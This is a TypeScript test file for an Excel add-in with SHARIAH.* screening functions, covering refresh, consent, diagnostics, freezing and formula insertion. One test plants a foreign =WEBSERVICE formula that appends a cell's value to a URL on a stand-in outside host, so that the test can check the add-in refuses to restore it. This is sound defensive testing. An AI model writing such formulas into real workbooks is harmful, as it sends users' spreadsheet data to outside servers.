/** Excel's sheets and the pane's ports over them, on a workbook in memory that is as strict as Office.js. */

import { readFileSync } from "node:fs";
import { Memory } from "../../src/browser/memory";
import { openRecord } from "../../src/browser/record";
import type { Asked } from "../../src/core/call";
import { fail } from "../../src/core/failure";
import { excelCells, sayBy } from "../../src/excel/cells";
import { excelWorkbook } from "../../src/excel/workbook";
import { catalogue } from "../../src/functions/catalogue";
import type { FunctionHelp } from "../../src/functions/help/help";
import type { Inserter } from "../../src/ports/host";
import { startService } from "../../src/service/server";
import { type FunctionsMetadata, paneHost } from "../../src/session/pane";
import { Session } from "../../src/session/session";
import { type Bench, type OptionalPort, optionalPorts, portsContract } from "../pane/ports.contract";
import { openClient } from "./client";
import { CellError, openPage } from "./pageParts";
import { placeOf } from "./server/book";

const previewOf = ({ inserter }: { readonly inserter: Inserter }) =>
  inserter.preview as NonNullable<Inserter["preview"]>;

const built = <T>(name: string) => JSON.parse(readFileSync(`dist/excel/${name}`, "utf8")) as T;
const helps = built<readonly FunctionHelp[]>("help.json");
const metadata = built<FunctionsMetadata>("functions.json");
const tickers = ["AAPL", "MSFT", "NVDA", "XOM", "CVX", "ABT", "MMM", "ACN", "ADBE", "AMD"];

async function open() {
  openPage();
  const service = await startService({ port: 0, rate: 50 });
  const session = new Session(excelCells, sayBy, new Memory());
  for (const { name, run } of catalogue) session.functions.set(name, run as (...typed: unknown[]) => Asked);
  const asked: string[] = [];
  /** The formulas of these tests: one function of ours, of a ticker, of a cell, or of cells below each other. */
  const { book: workbook, server } = openClient((formula, { sheet }) => {
    const [, name = "", text, row, last] = /SHARIAH\.([A-Z.]+)\((?:"(\w+)"|A(\d+)(?::A(\d+))?)/.exec(formula) ?? [];
    const run = session.functions.get(name);
    if (!run) return [[formula]];
    asked.push(formula);
    const first = Number(row) - 1;
    const cells = text
      ? [[text]]
      : Array.from({ length: Number(last ?? row) - first }, (_, down) => [sheet.cell(first + down, 0).value]);
    const answered = session.run(run(cells));
    const shown = (values: readonly (readonly unknown[])[]) =>
      values.map((line) => line.map((value) => (value instanceof CellError ? value.code : value)));
    return "promise" in answered ? answered.promise.then(shown) : shown(answered);
  });
  const sheets = excelWorkbook();
  if (!sheets) throw new Error("There is a workbook here.");
  const record = openRecord(session);
  const { address, segment, clientId, secret } = service;
  let typed = 0;
  return {
    host: paneHost({ session, record, workbook: sheets, metadata, helps }) as Bench<OptionalPort>["host"],
    good: { address, segment, clientId, secret, callsPerSecond: 50, demo: false },
    tickers,
    /** Tickers in column A, their verdicts beside them. */
    type: async (count: number) => {
      workbook.selected = [{ row: typed, column: 1, rows: count, columns: 1 }];
      for (const end = typed + count; typed < end; typed += 1) {
        workbook.set("Sheet1", typed, 0, tickers[typed % tickers.length]);
        workbook.set("Sheet1", typed, 1, `=SHARIAH.STATUS(A${typed + 1})`);
      }
    },
    insertRow: async () => {
      workbook.insertRow("Sheet1", 0);
      typed += 1;
    },
    formulasBack: async () => {
      const { cells } = workbook.sheet("Sheet1");
      return [...cells].filter(([key, { formula }]) => formula === `=SHARIAH.STATUS(A${placeOf(key).row + 1})`).length;
    },
    close: () => service.close(),
    session,
    workbook,
    server,
    sheets,
    asked,
    service,
  };
}

portsContract("Excel", optionalPorts, open);

describe("Excel's sheets", () => {
  let bench: Awaited<ReturnType<typeof open>>;
  beforeEach(async () => {
    bench = await open();
    await bench.host.settings.save(bench.good);
  });
  afterEach(() => bench.close());
  const idle = async () => {
    while (bench.host.activity.progress().cells > 0) await new Promise((resolve) => setTimeout(resolve, 5));
    await new Promise((resolve) => setTimeout(resolve, 5));
  };
  const column = (index: number, rows: number) =>
    Array.from({ length: rows }, (_, row) => bench.workbook.get("Sheet1", row, index));

  test("the questions that a refresh would ask are counted exactly, by scope, from the formulas alone", async () => {
    const { host, workbook } = bench;
    await bench.type(4);
    workbook.set("Sheet1", 5, 1, '=IFERROR(SHARIAH.RANK("AAPL"),SHARIAH.ZAKAT(A1:A4,2))');
    await idle();
    const screening = { what: "bulk screening", questions: 4, most: 100 };
    const [{ what } = screening] = await host.refresher.demands({ kind: "all" });
    expect(await host.refresher.demands({ kind: "all" })).toEqual([
      { ...screening, what },
      { what: "zakat", questions: 4, most: 1 },
    ]);
    workbook.selected = [{ row: 1, column: 1, rows: 2, columns: 1 }];
    expect(await host.refresher.demands({ kind: "selection" })).toEqual([{ what, questions: 2, most: 100 }]);
    expect(await host.refresher.demands({ kind: "older", hours: 1 })).toEqual([
      { what: "zakat", questions: 4, most: 1 },
    ]);
  });

  test("a refresh of the selection asks for its cells anew and for no other", async () => {
    const { host, workbook, asked } = bench;
    await bench.type(4);
    await idle();
    const before = asked.length;
    workbook.selected = [{ row: 1, column: 1, rows: 2, columns: 1 }];
    await host.refresher.refresh({ kind: "selection" });
    expect(asked.slice(before)).toEqual(["=SHARIAH.STATUS(A2)", "=SHARIAH.STATUS(A3)"]);
    await idle();
    expect((await host.diagnostics.calls())[0]).toMatchObject({ operation: "screening", questions: 2, status: 200 });
    const [own, ...others] = await host.refresher.sheets();
    expect([others, own?.sheet, own?.unanswered]).toEqual([[], "Sheet1", 0]);
    expect(Object.keys(own?.figures ?? {}).sort()).toEqual(["AAPL", "MSFT", "NVDA", "XOM"]);
    expect(await host.refresher.front()).toBe("Sheet1");
  });

  test("the cells in which formulas show a word are selected, also those that one formula fills, and no text that reads the same", async () => {
    const { host, workbook } = bench;
    await bench.type(4);
    workbook.set("Sheet1", 0, 3, "=SHARIAH.STATUS(A1:A4)");
    await idle();
    const verdicts = [0, 1, 2, 3].map((row) => String(workbook.get("Sheet1", row, 1)));
    expect([0, 1, 2, 3].map((row) => workbook.get("Sheet1", row, 3))).toEqual(verdicts);
    workbook.set("Sheet1", 8, 1, verdicts[0]);
    workbook.select("Sheet1", { row: 20, column: 20 });
    await host.refresher.select("Sheet1", ["none of these"]);
    expect(workbook.selected).toEqual([expect.objectContaining({ row: 20, column: 20 })]);
    const selected = () =>
      workbook.selected.flatMap(({ row, column, rows }) =>
        Array.from({ length: rows }, (_, down) => [row + down, column]),
      );
    for (const verdict of new Set(verdicts)) {
      await host.refresher.select("Sheet1", [verdict]);
      const rows = [0, 1, 2, 3].filter((row) => verdicts[row] === verdict);
      expect(selected()).toEqual([1, 3].flatMap((column) => rows.map((row) => [row, column])));
    }
  });

  test("a refresh that now costs more than was shown is not sent, and the shown cost follows the selection", async () => {
    const { host, workbook } = bench;
    await bench.type(2);
    workbook.set("Sheet1", 2, 1, '=SHARIAH.ZAKAT("AAPL")');
    workbook.set("Sheet1", 3, 1, '=SHARIAH.ZAKAT("MSFT")');
    await idle();
    const { sent } = host.activity.progress();
    let told = 0;
    const end = await host.refresher.selecting?.(() => {
      told += 1;
    });
    workbook.select("Sheet1", { row: 2, column: 1, rows: 1, columns: 1 });
    workbook.select("Sheet1", { row: 2, column: 1, rows: 2, columns: 1 });
    await idle();
    expect(told).toBe(2);
    expect(await host.refresher.refresh({ kind: "selection" }, 1)).toBe(false);
    await idle();
    expect(host.activity.progress().sent).toBe(sent);
    expect(await host.refresher.refresh({ kind: "selection" }, 2)).toBe(true);
    await idle();
    expect(host.activity.progress().sent).toBe(sent + 2);
    end?.();
    await idle();
    workbook.select("Sheet1", { row: 0, column: 1, rows: 1, columns: 1 });
    await idle();
    expect(told).toBe(2);
  });

  test("an argument that the sheet must calculate counts, and its cell is refreshed all the same", async () => {
    const { host, workbook } = bench;
    await bench.type(2);
    workbook.set("Sheet1", 2, 1, '=SHARIAH.STATUS("AAPL"&"")');
    await idle();
    workbook.selected = [{ row: 2, column: 1, rows: 1, columns: 1 }];
    expect(await host.refresher.demands({ kind: "selection" })).toEqual([
      { what: "calculated arguments", questions: 1, most: 100 },
    ]);
    const { sent } = host.activity.progress();
    await host.refresher.refresh({ kind: "selection" });
    await idle();
    expect(host.activity.progress().sent).toBe(sent + 1);
  });

  test("a refresh of errors asks only for cells with an error, and the diagnostics say why each has one", async () => {
    const { host, workbook } = bench;
    await bench.type(2);
    workbook.set("Sheet1", 2, 1, '=SHARIAH.STATUS("NOSUCH")');
    workbook.set("Sheet1", 3, 1, '=SHARIAH.RATIO(A1,"nonsense")');
    workbook.set("Sheet1", 4, 1, '=SHARIAH.STATUS("SPUS")');
    workbook.set("Sheet1", 5, 1, '=SHARIAH.REPORT("SPUS","navCurrency")');
    // A rank that is not given is an error that is seen, though its question has an answer; text of a sum is not.
    workbook.set("Sheet1", 0, 9, '=SHARIAH.RANK("AOS")');
    workbook.set("Sheet1", 1, 9, '=IFERROR(SHARIAH.STATUS("AAPL"&""),"")');
    await idle();
    const failures = await host.diagnostics.failures();
    expect(failures.map(({ failure, cells, tickers: about }) => [failure.failure, cells, about])).toEqual([
      ["missing", 1, ["AOS"]],
      [expect.stringMatching(/notReturned|unknownSymbol/), 1, ["NOSUCH"]],
      ["badArgument", 1, []],
    ]);
    expect(workbook.get("Sheet1", 0, 9)).toBe("#N/A");
    expect(await host.refresher.demands({ kind: "errors" })).toMatchObject([{ questions: 1 }]);
  });

  test("the diagnostics suggest known tickers for a ticker that is spelt otherwise", async () => {
    const { host, workbook } = bench;
    const typed = ["BRK.B", "AAPL", "BRK B", "aapl.us", "Apple", "NOSUCH"];
    for (const [row, ticker] of typed.entries()) {
      workbook.set("Sheet1", row, 0, ticker);
      workbook.set("Sheet1", row, 1, `=SHARIAH.STATUS(A${row + 1})`);
    }
    await idle();
    const meant = (await host.diagnostics.failures()).flatMap((failed) => failed.meant ?? []);
    expect(meant.map((one) => [one.typed, one.symbol]).sort()).toEqual([
      ["AAPL.US", "AAPL"],
      ["APPLE", "AAPL"],
      ["BRK B", "BRK.B"],
    ]);
  });

  test("formulas without a ticker, and one that throws, do not stop the others from being read", async () => {
    const { host, workbook, session } = bench;
    await bench.type(1);
    await idle();
    const failing = () => {
      throw new TypeError("nobody foresaw this");
    };
    session.functions.set("LIST", failing);
    const ofTickers = metadata.functions.filter(({ id }) => !/LIST$|USAGE/.test(id));
    ofTickers.forEach(({ id, parameters }, row) => {
      workbook.set("Sheet1", row, 3, `=SHARIAH.${id}()`);
      if (parameters.length > 1) workbook.set("Sheet1", row, 4, `=SHARIAH.${id}(,100)`);
    });
    expect(await host.refresher.demands({ kind: "all" })).toMatchObject([{ questions: 1, most: 100 }]);
    const failed = await host.diagnostics.failures();
    // A share of nothing is missing; a section of 100 is a bad argument, and there is no such field.
    expect(failed.map(({ failure }) => failure.failure).sort()).toEqual(["badArgument", "missing", "noField"]);
    expect(await host.diagnostics.stale()).toBeUndefined();
    workbook.set("Sheet1", 0, 5, '=SHARIAH.LIST( "US")');
    expect(await host.refresher.demands({ kind: "all" })).toMatchObject([
      { questions: 1 },
      { what: "calculated arguments", questions: 1 },
    ]);
  });

  test("of an ETF the diagnostics say the same as its cells", async () => {
    const { host, workbook } = bench;
    workbook.set("Sheet1", 0, 1, '=SHARIAH.PURIFY("SPUS")');
    workbook.set("Sheet1", 1, 1, '=SHARIAH.ZAKAT("HLAL")');
    workbook.set("Sheet1", 2, 1, '=SHARIAH.STATUS("SPUS")');
    workbook.set("Sheet1", 3, 1, '=SHARIAH.COMPLIANCE("NOSUCH")');
    workbook.set("Sheet1", 4, 1, '=SHARIAH.PURIFY("spus")');
    await idle();
    const failures = await host.diagnostics.failures();
    expect(failures.map(({ failure, cells, tickers: about }) => [failure.failure, cells, about])).toEqual([
      ["notTicker", 3, ["SPUS", "HLAL"]],
      [expect.stringMatching(/notReturned|unknownSymbol/), 1, ["NOSUCH"]],
    ]);
    expect(failures[0]?.failure.message).toBe("SPUS is an ETF: use ETF.PURIFY.");
  });

  test("an ETF's report that waits for consent is told as such, and its cells ask again once it is cancelled", async () => {
    const { host, workbook, session, asked } = bench;
    const formula = '=SHARIAH.STATUS("SPUS")';
    workbook.set("Sheet1", 0, 1, formula);
    workbook.set("Sheet1", 1, 1, '=SHARIAH.STATUS("NOSUCH")');
    for (let row = 2; row < 102; row += 1) workbook.set("Sheet1", row, 1, `=SHARIAH.ZAKAT("T${row}")`);
    await idle();
    expect(host.queue.consents()).toHaveLength(1);
    const consent = fail("consent", 100, 2);
    // The sample has not so many ETFs that their reports would wait; and somebody took a stock for an ETF.
    for (const ticker of ["SPUS", "NOSUCH"]) {
      const report = session.planning.peek(session.operations.etfReport, ticker);
      Object.assign(report ?? {}, { answer: undefined, failure: consent, failedUntil: Date.now() + 3_600_000 });
    }
    const told = async () =>
      (await host.diagnostics.failures()).map(({ failure, tickers: about }) => [
        failure.failure,
        about.includes("SPUS"),
      ]);
    expect(await told()).toEqual([
      ["consent", true],
      [expect.stringMatching(/notReturned|unknownSymbol/), false],
    ]);
    const before = asked.length;
    await host.queue.cancel();
    await idle();
    expect(asked.slice(before)).toContain(formula);
    expect(asked.slice(before)).not.toContain('=SHARIAH.STATUS("NOSUCH")');
    expect(await told()).toContainEqual(["cancelled", true]);
  });

  test("the diagnostics name the cell and the ticker of a figure that the service does not give", async () => {
    const { host, workbook } = bench;
    await bench.type(1);
    workbook.set("Sheet1", 1, 1, '=SHARIAH.RANK("AOS")');
    await idle();
    expect(workbook.get("Sheet1", 1, 1)).toBe("#N/A");
    expect(await host.diagnostics.failures()).toEqual([
      { failure: expect.objectContaining({ failure: "missing" }), cells: 1, tickers: ["AOS"] },
    ]);
  });

  test("the diagnostics tell how many cells show kept answers, and how old the oldest is", async () => {
    const { host, service, good } = bench;
    await bench.type(2);
    await idle();
    expect(await host.diagnostics.stale()).toBeUndefined();
    const asked = (await host.diagnostics.calls())[0]?.at ?? 0;
    await service.close();
    await host.refresher.refresh({ kind: "all" });
    await idle();
    expect(await host.diagnostics.stale()).toEqual({ cells: 2, since: expect.any(Number) });
    expect((await host.diagnostics.stale())?.since).toBe(asked);
    expect(await host.diagnostics.failures()).toEqual([]);
    expect(good.callsPerSecond).toBe(50);
  });

  test("a refresh that is cancelled leaves every cell as it was, and tells what was not asked anew", async () => {
    const { host, workbook, service } = bench;
    ["AAPL", "MSFT", "KO"].forEach((ticker, row) => {
      workbook.set("Sheet1", row, 1, `=SHARIAH.STATUS("${ticker}")`);
    });
    await idle();
    const cells = () => [0, 1, 2].map((row) => workbook.get("Sheet1", row, 1));
    const before = [cells(), await host.refresher.sheets(), (await host.diagnostics.calls()).length];
    expect(cells()[0]).toBe("HALAL");
    await host.queue.pause();
    await host.refresher.refresh({ kind: "all" });
    await host.queue.cancel();
    await idle();
    await host.queue.resume();
    expect([cells(), await host.refresher.sheets(), (await host.diagnostics.calls()).length]).toEqual(before);
    expect(await host.refresher.outcome()).toEqual({
      answered: 0,
      cancelled: 3,
      failed: 0,
      why: undefined,
      changes: [],
    });
    await host.refresher.refresh({ kind: "all" });
    await idle();
    expect(await host.refresher.outcome()).toEqual({
      answered: 3,
      cancelled: 0,
      failed: 0,
      why: undefined,
      changes: [],
    });
    await service.close();
    await host.refresher.refresh({ kind: "all" });
    await idle();
    const why = expect.objectContaining({ message: fail("unreachable").message });
    expect(await host.refresher.outcome()).toEqual({ answered: 0, cancelled: 0, failed: 3, why, changes: [] });
    expect(cells()).toEqual(before[0]);
  });

  test("cells whose consent is cancelled say so, and the pane asks no more", async () => {
    const { host, workbook, asked } = bench;
    for (let row = 0; row < 100; row += 1) workbook.set("Sheet1", row, 1, `=SHARIAH.ZAKAT("T${row}")`);
    await idle();
    expect(host.queue.consents()).toHaveLength(1);
    const kinds = async () => (await host.diagnostics.failures()).map(({ failure }) => failure.failure);
    expect(await kinds()).toEqual(["consent"]);
    const before = asked.length;
    await host.queue.cancel();
    await idle();
    expect(host.queue.consents()).toEqual([]);
    expect(asked.length).toBeGreaterThan(before);
    expect(await kinds()).toEqual(["cancelled"]);
  });

  test("cells whose consent is refused say so and where to change it; asked again, they wait for it", async () => {
    const { host, workbook } = bench;
    for (let row = 0; row < 100; row += 1) workbook.set("Sheet1", row, 1, `=SHARIAH.ZAKAT("T${row}")`);
    await idle();
    const told = async () => (await host.diagnostics.failures()).map(({ failure, cells }) => [failure.message, cells]);
    const { sent } = host.activity.progress();
    const recalculated = async (act: Promise<void>) => {
      const before = bench.asked.length;
      await act;
      await idle();
      return bench.asked.length - before;
    };
    expect(await recalculated(host.queue.answer("zakat", "no"))).toBe(100);
    expect(await told()).toEqual([[fail("declined", 100).message, 100]]);
    expect([host.queue.consents(), host.queue.declined().map(({ id }) => id)]).toEqual([[], ["zakat"]]);
    expect(await recalculated(host.queue.askAgain("zakat"))).toBe(100);
    expect(await told()).toEqual([[fail("consent", 100, 1).message, 100]]);
    expect([host.queue.consents().length, host.queue.declined()]).toEqual([1, []]);
    expect(host.activity.progress().sent).toBe(sent);
    await host.queue.answer("zakat", "no");
    expect(host.queue.declined()).toHaveLength(1);
  });

  test("a table is frozen and thawed as a whole; a cell that somebody changed stays theirs", async () => {
    const { host, workbook } = bench;
    await bench.type(3);
    workbook.set("Sheet1", 0, 3, "=SHARIAH.STATUS(A1:A3)");
    await idle();
    const verdicts = column(1, 3);
    expect(column(3, 3)).toEqual(verdicts);
    expect(await host.freezer.freeze("workbook", undefined)).toMatchObject({ cells: 6 });
    expect([column(1, 3), column(3, 3)]).toEqual([verdicts, verdicts]);
    const cells = [...workbook.sheet("Sheet1").cells.values()];
    expect(cells.filter(({ formula, from }) => formula ?? from)).toEqual([]);
    expect(workbook.sheet("shariah-sheets-frozen").visibility).toBe("VeryHidden");
    expect(await host.freezer.frozen()).toMatchObject([{ address: "Sheet1!B1:D3", cells: 6 }]);
    workbook.set("Sheet1", 1, 1, "mine");
    expect(await host.freezer.thaw()).toMatchObject({ cells: 5, changed: 1 });
    await idle();
    expect([column(1, 3), column(3, 3)]).toEqual([[verdicts[0], "mine", verdicts[2]], verdicts]);
    workbook.set("Sheet1", 1, 1, verdicts[1]);
    expect(await host.freezer.thaw()).toMatchObject({ cells: 1, changed: 0 });
    expect(workbook.sheetNames).toEqual(["Sheet1"]);
  });

  test("a frozen table into which somebody typed does not thaw until that is deleted", async () => {
    const { host, workbook } = bench;
    await bench.type(3);
    workbook.set("Sheet1", 0, 3, "=SHARIAH.STATUS(A1:A3)");
    workbook.selected = [{ row: 0, column: 3, rows: 1, columns: 1 }];
    await idle();
    const verdicts = column(3, 3);
    await host.freezer.freeze("selection", undefined);
    workbook.set("Sheet1", 1, 3, "mine");
    expect(await host.freezer.thaw()).toMatchObject({ formulas: 0, changed: 1 });
    expect(column(3, 3)).toEqual([verdicts[0], "mine", verdicts[2]]);
    workbook.set("Sheet1", 1, 3, verdicts[1]);
    expect(await host.freezer.thaw()).toMatchObject({ cells: 3, changed: 0 });
    await idle();
    expect(column(3, 3)).toEqual(verdicts);
  });

  test("a formula that shows an error or nothing is not frozen, and is counted", async () => {
    const { host, workbook } = bench;
    await bench.type(1);
    workbook.set("Sheet1", 1, 1, '=SHARIAH.STATUS("NOSUCH")');
    workbook.set("Sheet1", 2, 1, "=SHARIAH.STATUS(A9)");
    await idle();
    expect(await host.freezer.freeze("workbook", undefined)).toMatchObject({ cells: 1, unshown: 2 });
    const formulas = [1, 2].map((row) => workbook.formula("Sheet1", row, 1));
    expect(formulas).toEqual(['=SHARIAH.STATUS("NOSUCH")', "=SHARIAH.STATUS(A9)"]);
  });

  test("a reason is frozen as an answer; the sentence why there is none is not", async () => {
    const { host, workbook } = bench;
    workbook.set("Sheet1", 0, 1, '=SHARIAH.WHY("AAPL")');
    workbook.set("Sheet1", 1, 1, '=SHARIAH.WHY("NOSUCH")');
    await idle();
    expect(column(1, 2)).toEqual([
      expect.stringMatching(/: .*\.$/),
      expect.stringMatching(/^The service .*NOSUCH.*\.$/),
    ]);
    expect(await host.freezer.freeze("workbook", undefined)).toMatchObject({ cells: 1, unshown: 1 });
    expect(workbook.formula("Sheet1", 1, 1)).toBe('=SHARIAH.WHY("NOSUCH")');
  });

  test("cells that earlier versions froze thaw, and no other formula than ours is written", async () => {
    const { host, workbook, sheets } = bench;
    await bench.type(3);
    await idle();
    const verdicts = column(1, 3);
    for (let row = 0; row < 3; row += 1) workbook.set("Sheet1", row, 1, verdicts[row]);
    workbook.set("Sheet1", 0, 4, "x");
    const entry = (place: readonly number[], formula: string, shows: unknown) =>
      ["old", "1", "Ali", "Sheet1", ...place.map(String), formula, JSON.stringify(shows), "{1}"] as const;
    await sheets.keepFrozenCells([
      entry([0, 1, 3, 1], "=SHARIAH.STATUS(A1:A3)", verdicts[0]),
      entry([0, 4, 1, 1], '=WEBSERVICE("https://elsewhere.example/?"&A1)', "x"),
      entry([5, 5, 1, 1], "=SHARIAH.STATUS(A1)", "gone since"),
    ]);
    expect(await host.freezer.frozen()).toMatchObject([{ id: "old", by: "Ali", at: 1 }]);
    expect(await host.freezer.thaw()).toMatchObject({ cells: 3, formulas: 1, foreign: 1, changed: 1 });
    await idle();
    expect(workbook.formula("Sheet1", 0, 1)).toBe("=SHARIAH.STATUS(A1:A3)");
    expect([column(1, 3), workbook.get("Sheet1", 0, 4)]).toEqual([verdicts, "x"]);
  });

  test("a renamed sheet thaws as before", async () => {
    const { host, workbook } = bench;
    await bench.type(2);
    await idle();
    expect(await host.freezer.freeze("workbook", undefined)).toMatchObject({ cells: 2 });
    workbook.rename("Sheet1", "Sent in March");
    expect(await host.freezer.frozen()).toMatchObject([{ address: "'Sent in March'!B1:B2" }]);
    expect(await host.freezer.thaw()).toMatchObject({ cells: 2 });
    expect(await host.freezer.frozen()).toEqual([]);
  });

  test("a protected sheet is not frozen, and nothing that was frozen before is lost", async () => {
    const { host, workbook } = bench;
    await bench.type(2);
    await idle();
    expect(await host.freezer.freeze("selection", "first")).toMatchObject({ cells: 2 });
    await bench.type(2);
    await idle();
    workbook.sheet("Sheet1").isProtected = true;
    expect(await host.freezer.freeze("workbook", "second")).toMatchObject({
      cells: 0,
      protected: 2,
      protectedSheets: ["Sheet1"],
    });
    expect((await host.freezer.frozen()).map(({ by }) => by)).toEqual(["first"]);
    expect(workbook.names.map(({ isVisible }) => isVisible)).toEqual([false, false]);
    workbook.sheet("Sheet1").isProtected = false;
    expect(await host.freezer.thaw()).toMatchObject({ cells: 2 });
    expect(workbook.names).toEqual([]);
  });

  test("a frozen cell shows since when, what stood there, and why any of its table has no answer; a note of one's own stays", async () => {
    const { host, workbook } = bench;
    for (const [row, ticker] of ["AAPL", "NOSUCH"].entries()) workbook.set("Sheet1", row, 0, ticker);
    workbook.set("Sheet1", 0, 1, "=SHARIAH.STATUS(A1:A2)");
    workbook.set("Sheet1", 0, 3, "=SHARIAH.STATUS(A1)");
    await idle();
    const notes = workbook.sheet("Sheet1").notes;
    notes.set("D1", "Frozen until the audit");
    expect(await host.freezer.freeze("workbook", "A. Auditor")).toMatchObject({ formulas: 2 });
    expect(notes.get("B1")).toMatch(
      /^Frozen \d{4}-\d\d-\d\d \d\d:\d\d UTC by A\. Auditor .*\n=SHARIAH\.STATUS\(A1:A2\)\n#N\/A, NOSUCH: The service/,
    );
    expect(notes.get("D1")).toBe("Frozen until the audit");
    await host.freezer.thaw();
    expect([...notes]).toEqual([["D1", "Frozen until the audit"]]);
  });

  test("a frozen cell that somebody changed leaves the list, and comes back with an undo", async () => {
    const { host, workbook } = bench;
    for (const [row, ticker] of ["AAPL", "MSFT", "KO"].entries()) {
      workbook.set("Sheet1", row, 0, ticker);
      workbook.set("Sheet1", row, 1, `=SHARIAH.STATUS(A${row + 1})`);
    }
    await idle();
    expect(await host.freezer.freeze("workbook", undefined)).toMatchObject({ formulas: 3 });
    const cells = async () => (await host.freezer.frozen()).map(({ cells }) => cells);
    expect(await cells()).toEqual([3]);
    const was = workbook.get("Sheet1", 1, 1) as string;
    workbook.set("Sheet1", 0, 1, "=SHARIAH.STATUS(A1)");
    await idle();
    workbook.set("Sheet1", 1, 1, "mine");
    expect(await cells()).toEqual([1]);
    workbook.set("Sheet1", 1, 1, was);
    expect(await cells()).toEqual([2]);
    workbook.set("Sheet1", 1, 1, "");
    workbook.set("Sheet1", 2, 1, "=SHARIAH.RANK(A3)");
    await idle();
    expect(await cells()).toEqual([]);
  });

  test("cells that wait are not frozen", async () => {
    const { host } = bench;
    await host.queue.pause();
    await bench.type(2);
    expect(await host.freezer.freeze("workbook", undefined)).toMatchObject({ cells: 0, waiting: 2 });
    expect(await host.freezer.frozen()).toEqual([]);
  });

  test("a refresh that is under way is not frozen over, whatever its cells still show", async () => {
    const { host, workbook } = bench;
    await bench.type(2);
    await idle();
    await host.queue.pause();
    void host.refresher.refresh({ kind: "all" });
    while (host.activity.progress().cells < 2) await new Promise((resolve) => setTimeout(resolve, 5));
    for (const row of [0, 1]) Object.assign(workbook.sheet("Sheet1").cell(row, 1), { value: "HALAL" });
    expect(await host.freezer.freeze("workbook", undefined)).toMatchObject({ cells: 0, waiting: 2 });
    await host.queue.resume();
    await idle();
    expect(await host.freezer.freeze("workbook", undefined)).toMatchObject({ cells: 2, waiting: 0 });
  });

  test("a formula is previewed before it is inserted into the active cell", async () => {
    const { host, workbook } = bench;
    await bench.type(2);
    await idle();
    expect(await host.inserter.selection()).toBe("B1:B2");
    expect(await previewOf(host)("=SHARIAH.STATUS(A1:A2)", false)).toEqual({
      rows: column(1, 2).map((verdict) => [verdict]),
      tickers: ["AAPL", "MSFT"],
      more: 0,
      calls: 0,
    });
    workbook.set("Sheet1", 3, 0, "Ticker");
    for (const [row, ticker] of ["AAPL", "MSFT"].entries()) workbook.set("Sheet1", row + 4, 0, ticker);
    workbook.addTable("Holdings", "Sheet1", { row: 3, column: 0, rows: 3, columns: 1 });
    expect((await previewOf(host)("=SHARIAH.STATUS(Holdings[Ticker])", false)).rows).toHaveLength(2);
    const unknown = await previewOf(host)('=SHARIAH.STATUS({"ABT","XOM"})', false);
    expect(unknown).toEqual({ rows: [["…", "…"]], more: 0, calls: 1 });
    const told = await previewOf(host)('=SHARIAH.STATUS({"ABT","XOM"})', true);
    expect(told.calls).toBe(0);
    const dated = await previewOf(host)('=SHARIAH.SCREEN("AAPL",{"status","report date","rank"})', false);
    expect(dated.rows).toEqual([[column(1, 1)[0], expect.stringMatching(/^\d{4}-\d\d-\d\d$/), expect.any(Number)]]);
    const zakat = await previewOf(host)('=SHARIAH.ZAKAT("AAPL",10,"short","solar")', true);
    expect(zakat.rows).toEqual([
      [
        {
          number: expect.any(Number),
          note: expect.objectContaining({ english: expect.stringMatching(/solar year$/) }),
        },
      ],
    ]);
    const card = await previewOf(host)('=SHARIAH.CARD("AAPL")', true);
    expect(card).toEqual({ rows: [[column(1, 1)[0]]], tickers: ["AAPL"], more: 0, calls: 0 });
    workbook.selected = [{ row: 7, column: 2, rows: 1, columns: 1 }];
    expect(await host.inserter.insert("=SHARIAH.STATUS(A1)")).toBeUndefined();
    await idle();
    expect(workbook.get("Sheet1", 7, 2)).toBe(column(1, 1)[0]);
  });

  test("a preview names each row's ticker, and tells how many rows it leaves out", async () => {
    const { host, workbook } = bench;
    workbook.set("Sheet1", 0, 0, "");
    for (const [row, ticker] of [...tickers, "BRK.B"].entries()) workbook.set("Sheet1", row + 1, 0, ticker);
    const preview = await previewOf(host)('=SHARIAH.SCREEN(A2:A12,{"status"},TRUE)', false);
    expect(preview.rows).toHaveLength(10);
    expect([preview.tickers, preview.more]).toEqual([["", ...tickers.slice(0, 9)], 2]);
  });

  test("a filled cell is overwritten only after a question, and the formula's own argument never", async () => {
    const { host, workbook } = bench;
    await bench.type(2);
    await idle();
    workbook.selected = [{ row: 0, column: 1, rows: 1, columns: 1 }];
    const filled = { why: "filled", cell: "B1" };
    expect(await host.inserter.insert("=SHARIAH.RANK(A1)")).toEqual(filled);
    expect(await host.inserter.insert("=SHARIAH.RANK(A1)", "B2")).toEqual(filled);
    expect(workbook.get("Sheet1", 0, 1)).toBe(column(1, 1)[0]);
    expect(await host.inserter.insert("=SHARIAH.RANK(A1)", "B1")).toBeUndefined();
    await idle();
    expect(workbook.get("Sheet1", 0, 1)).toEqual(expect.any(Number));
    workbook.selected = [{ row: 1, column: 0, rows: 1, columns: 1 }];
    const circular = { why: "circular", cell: "A2", area: "A1:A2" };
    for (const formula of ["=SHARIAH.STATUS(A1:A2)", "=COUNTIF(SHARIAH.STATUS(Sheet1!A1:A2),1)"]) {
      expect(await host.inserter.insert(formula)).toEqual(circular);
      expect(await host.inserter.insert(formula, "A2")).toEqual(circular);
    }
    expect(workbook.get("Sheet1", 1, 0)).toBe("MSFT");
    expect(await host.inserter.insert('=SHARIAH.STATUS("A1:A2")')).toEqual({ why: "filled", cell: "A2" });
  });

  // E3: Microsoft Learn, *Resource limits and performance optimization for Office Add-ins*
  test("20,000 formulas: a few rounds, none of them more than Excel takes", async () => {
    const { host, workbook, session } = bench;
    session.planning.hold(true, Date.now());
    const count = 20_000;
    for (let row = 0; row < count; row += 1) {
      workbook.set("Sheet1", row, 0, `T${row % 5_000}`);
      workbook.set("Sheet1", row, 1, `=SHARIAH.STATUS(A${row + 1})`);
    }
    expect(host.activity.progress().cells).toBe(count);
    bench.server.traffic.length = 0;
    expect(await host.refresher.demands({ kind: "all" })).toMatchObject([{ questions: 5_000, most: 100 }]);
    expect(bench.server.traffic.filter(({ isCleanup }) => !isCleanup).length).toBeLessThanOrEqual(6);
    expect(Math.max(...bench.server.traffic.map(({ received }) => received))).toBeLessThan(2_500_000);
  });
});
